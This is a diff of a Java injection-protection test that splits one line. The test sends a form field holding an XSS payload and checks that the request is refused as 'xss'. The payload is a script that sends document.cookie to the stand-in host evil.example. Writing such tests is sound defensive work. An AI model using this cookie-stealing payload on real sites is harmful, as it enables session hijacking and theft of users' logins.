@@ -112,7 +112,8 @@ abstract class InjectionProtectionTest {
 
   @Test
   void xssInAFormFieldIsRefusedExceptWhereThePolicyExcludesIt() throws Exception {
-    String body = "title=News&html=" + encode("<script>document.location='//evil.example/?c='+document.cookie</script>");
+    String body =
+        "title=News&html=" + encode("<script>document.location='//evil.example/?c='+document.cookie</script>");
     JsonNode event = refused(post("/echo/form", "application/x-www-form-urlencoded", body), "xss");
 
     assertEquals("form.html", event.path("threat").path("location").asText());
